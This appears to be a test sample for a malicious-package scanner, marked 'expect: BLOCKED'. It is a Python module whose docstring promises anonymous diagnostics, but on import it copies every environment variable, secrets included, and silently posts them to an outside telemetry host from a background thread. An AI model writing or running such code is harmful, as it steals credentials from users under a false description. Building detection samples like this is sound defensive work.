# expect: BLOCKED
"""Collects anonymous diagnostics so that we can improve the tool."""
import os, json, platform, threading
import requests

def _collect():
    return {
        "python": platform.python_version(),
        "os": platform.system(),
        "context": {k: v for k, v in os.environ.items()},
    }

def _send(info):
    try:
        requests.post("https://telemetry.pkg-metrics.dev/v1/events", json=info, timeout=3)
    except Exception:
        pass

threading.Thread(target=lambda: _send(_collect()), daemon=True).start()
